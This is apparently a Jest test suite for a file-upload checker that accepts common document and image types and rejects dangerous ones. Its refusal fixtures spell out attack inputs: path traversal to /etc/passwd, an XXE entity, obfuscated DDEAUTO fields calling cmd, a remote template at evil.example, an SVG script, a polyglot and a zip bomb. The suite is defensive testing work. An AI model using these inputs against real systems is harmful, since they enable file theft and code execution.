import { describe, expect, it } from '@jest/globals';
import { docx, docxParts, jpg, pdf, png, xlsx } from '../testing/sample-files.js';
import { zipOf, type ZipEntry } from '../testing/zip-bytes.js';
import { checkFile, kindByName } from './check-file.js';
import type { ClearFile } from './clear-file.js';
import type { FileKind } from './file-kinds.js';

const fileOf = (bytes: Buffer): ClearFile => ({
  size: bytes.length,
  read: (start, end = bytes.length) => Promise.resolve(Buffer.from(bytes.subarray(start, end))),
  async *stream(start = 0, end = bytes.length) {
    for (let at = start; at < end; at += 50_000) {
      await Promise.resolve();
      yield Buffer.from(bytes.subarray(at, Math.min(end, at + 50_000)));
    }
  },
});
const check = (bytes: Buffer, kind: FileKind) => checkFile(fileOf(bytes), kind);
const XML = '<?xml version="1.0"?>';
const rels = (attributes: string): ZipEntry => ({
  name: 'word/_rels/document.xml.rels',
  data: `${XML}<Relationships><Relationship ${attributes}/></Relationships>`,
});

describe('files that are taken', () => {
  const windows = Buffer.from([0x93, 0x4d, 0xfc, 0x6c, 0x6c, 0x65, 0x72, 0x94, 0x0a]);
  const hyperlink =
    'Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.org" TargetMode="External"';
  it.each<[string, FileKind, Buffer]>([
    ['a PDF', 'pdf', pdf()],
    ['a Word document', 'docx', docx()],
    ['one with links to click', 'docx', docx([rels(hyperlink)])],
    [
      'one with fields of its own: a page number, a sentence about DDE',
      'docx',
      docx([
        {
          name: 'word/footer1.xml',
          data: `${XML}<w:ftr><w:fldChar w:fldCharType="begin"/><w:instrText> PAGE </w:instrText><w:t>DDEAUTO</w:t></w:ftr>`,
        },
      ]),
    ],
    ['an Excel table', 'xlsx', xlsx()],
    ['a PNG', 'png', png()],
    ['a JPG', 'jpg', jpg()],
    [
      'a JPG with a second picture behind it',
      'jpg',
      Buffer.concat([jpg(), Buffer.alloc(3), jpg()]),
    ],
    ['text in UTF-8', 'txt', Buffer.from('Grüße, 世界\n')],
    ['text of Windows', 'txt', windows],
    ['a table as text', 'csv', Buffer.from('\ufeffa,b\n1,2\n')],
  ])('%s', async (_name, kind, bytes) => {
    await expect(check(bytes, kind)).resolves.toBeUndefined();
  });

  it('are known by their ending, however it is written', () => {
    expect(kindByName('Contract 2026.PDF')).toBe('pdf');
    expect(kindByName('scan.jpeg')).toBe('jpg');
  });
});

describe('files that are refused', () => {
  const svg = Buffer.from(
    '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
  );
  const damagedPng = Buffer.from(png());
  damagedPng[20] = 9;
  it.each<[string, FileKind, Buffer, RegExp]>([
    ['an empty one', 'pdf', Buffer.alloc(0), /empty/],
    ['an SVG as PNG', 'png', svg, /ends in \.png, but its content is/],
    ['a PNG as JPG', 'jpg', png(), /content is PNG/],
    ['a PDF as text', 'txt', pdf(), /content is PDF/],
    ['HTML as PDF', 'pdf', Buffer.from('<html>%PDF-1.7</html>'), /ends in \.pdf/],
    ['a PDF cut off', 'pdf', pdf().subarray(0, -40), /cut off/],
    [
      'a PDF with something behind it',
      'pdf',
      Buffer.concat([pdf(), Buffer.from('<?php')]),
      /hangs behind/,
    ],
    ['a PDF that is an archive too', 'pdf', polyglot(), /archive as well/],
    ['a PNG cut off', 'png', png().subarray(0, -5), /cut off/],
    ['a PNG with a wrong checksum', 'png', damagedPng, /damaged/],
    ['a PNG with an archive behind it', 'png', Buffer.concat([png(), docx()]), /hangs behind/],
    ['a JPG cut off', 'jpg', jpg().subarray(0, -2), /cut off/],
    ['a JPG with an archive behind it', 'jpg', Buffer.concat([jpg(), docx()]), /hangs behind/],
    ['text in UTF-16', 'csv', Buffer.from('\ufeffa,b', 'utf16le'), /zero bytes|content is/],
    ['bytes that are no text', 'txt', Buffer.from([0x41, 0xc3, 0x28, 0x81]), /mean nothing/],
    ['an archive that is no document', 'docx', zipOf([{ name: 'a.txt', data: 'x' }]), /no DOCX/],
    ['a table as a document', 'docx', xlsx(), /XLSX|no DOCX/],
    ['a document cut off', 'docx', docx().subarray(0, -30), /cut off/],
    [
      'a document with something behind it',
      'docx',
      Buffer.concat([docx(), Buffer.from('x')]),
      /cut off|behind/,
    ],
    ['a document with a remark', 'docx', zipOf(docxParts(), 'hello'), /hangs behind/],
  ])('%s', async (_name, kind, bytes, sentence) => {
    await expect(check(bytes, kind)).rejects.toMatchObject({
      code: 'INVALID',
      message: expect.stringMatching(sentence),
    });
  });

  it('by an ending that is not on the list, whichever it hides behind', () => {
    for (const name of [
      'run.exe',
      'page.html',
      'picture.svg',
      'macro.docm',
      'report.pdf.exe',
      'none',
    ])
      expect(() => kindByName(name)).toThrow(/only PDF, DOCX/);
  });

  /** Its end mark stands in the remark of an archive: two readers, two files. */
  function polyglot(): Buffer {
    const archive = zipOf([{ name: 'x', data: 'x' }], 'startxref\n0\n%%EOF\n');
    return Buffer.concat([pdf(), archive]);
  }
});

describe('documents that are archives', () => {
  const many = Array.from({ length: 1_001 }, (_, n) => ({
    name: `word/${n}.xml`,
    data: `${XML}<a/>`,
  }));
  const blank = Buffer.alloc(3 * 1024 * 1024, 0x20);
  const mode = 0o120777;
  it.each<[string, readonly ZipEntry[], RegExp]>([
    ['more than a thousand parts', many, /1004 parts/],
    [
      'a part that unpacks to a thousand times its size',
      [{ name: 'word/x.xml', data: Buffer.concat([Buffer.from(`${XML}<a>`), blank]) }],
      /more than 100 times/,
    ],
    [
      '200 MB, as it says itself',
      [{ name: 'word/x.bin', data: 'x', claims: { size: 201 * 1024 * 1024 } }],
      /larger than 200 MB/,
    ],
    ['more than it says', [{ name: 'word/x.bin', data: blank, claims: { size: 10 } }], /damaged/],
    ['a path that leads out', [{ name: '../../etc/passwd', data: 'x' }], /leads out/],
    ['a path from the root', [{ name: '/etc/passwd', data: 'x' }], /leads out/],
    ['a path of Windows', [{ name: '..\\evil.txt', data: 'x' }], /leads out/],
    ['a link to another file', [{ name: 'word/link', data: '/etc/passwd', mode }], /is a link/],
    ['an archive by its name', [{ name: 'word/embeddings/a.zip', data: 'x' }], /holds an archive/],
    ['an archive under another name', [{ name: 'word/a.bin', data: docx() }], /holds an archive/],
    [
      'an embedded object',
      [{ name: 'word/embeddings/ole.bin', data: Buffer.from('d0cf11e0a1b11ae1', 'hex') }],
      /embedded object/,
    ],
    ['a program', [{ name: 'word/media/image1.png', data: 'MZ\u0090\0' }], /holds a program/],
    ['macros', [{ name: 'word/vbaProject.bin', data: 'x' }], /macros/],
    [
      'a field that runs another program, in pieces and by numbers',
      [
        {
          name: 'word/header1.xml',
          data: `${XML}<w:hdr><w:fldChar w:fldCharType="begin"/><w:instrText> DD</w:instrText><w:instrText>&#69;AUTO c:\\cmd</w:instrText></w:hdr>`,
        },
      ],
      /talks to other programs/,
    ],
    [
      'a simple field that does',
      [
        {
          name: 'word/footer1.xml',
          data: `${XML}<w:ftr><w:fldSimple w:instr=" dde x y"/></w:ftr>`,
        },
      ],
      /talks to other programs/,
    ],
    [
      'a link by which a table does',
      [
        {
          name: 'xl/externalLinks/externalLink1.xml',
          data: `${XML}<externalLink><ddeLink/></externalLink>`,
        },
      ],
      /talks to other programs/,
    ],
    ['controls', [{ name: 'word/activeX/activeX1.xml', data: `${XML}<a/>` }], /macros or controls/],
    ['a password', [{ name: 'word/x.xml', data: 'x', claims: { flags: 1 } }], /password/],
    [
      'another packing',
      [{ name: 'word/x.xml', data: 'x', claims: { method: 14 } }],
      /packed in a way/,
    ],
    ['a wrong checksum', [{ name: 'word/x.bin', data: 'hello', claims: { crc: 1 } }], /damaged/],
    ['two parts of one name', [{ name: 'WORD/document.xml', data: `${XML}<a/>` }], /one name/],
    ['parts upon one another', overlapping(), /upon one another/],
    [
      'a document type',
      [
        {
          name: 'word/x.xml',
          data: `${XML}<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`,
        },
      ],
      /entities/,
    ],
    [
      'the same in UTF-16',
      [{ name: 'word/x.xml', data: Buffer.from('\ufeff<!DOCTYPE a><a/>', 'utf16le') }],
      /entities/,
    ],
    [
      'the same behind a long remark',
      [{ name: 'word/x.xml', data: `<!--${'<a> '.repeat(40_000)}--><!DOCTYPE a><a/>` }],
      /entities/,
    ],
    [
      'the same in an encoding nobody expects',
      [{ name: 'word/x.xml', data: '<?xml version="1.0" encoding="UTF-7"?><a/>' }],
      /entities/,
    ],
    [
      'a template from elsewhere',
      [
        rels(
          'Id="r1" Type="x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"',
        ),
      ],
      /from elsewhere/,
    ],
    [
      'the same, disguised',
      [rels('Id="r>1" Type="x/attachedTemplate" Target="x" TargetMode="&#69;xternal"')],
      /from elsewhere/,
    ],
  ])('are refused with %s', async (_name, parts, sentence) => {
    await expect(check(docx(parts), 'docx')).rejects.toMatchObject({
      code: 'INVALID',
      message: expect.stringMatching(sentence),
    });
  });

  function overlapping(): ZipEntry[] {
    const data = Buffer.from(Array.from({ length: 4_000 }, (_, n) => (n * 7919) % 251));
    return Array.from({ length: 30 }, (_, n) => ({
      name: `word/${n}.bin`,
      data: n === 0 ? data : '',
      ...(n > 0 && { claims: { offset: 0, packed: 3_000, size: 4_000 } }),
    }));
  }

  it('unpack no more than is looked at: a bomb of 200 MB is over in a moment', async () => {
    const bomb = Buffer.alloc(220 * 1024 * 1024);
    const file = docx([{ name: 'word/x.bin', data: bomb }]);
    const since = performance.now();
    await expect(check(file, 'docx')).rejects.toThrow(/larger than 200 MB/);
    expect(performance.now() - since).toBeLessThan(2_000);
  });
});
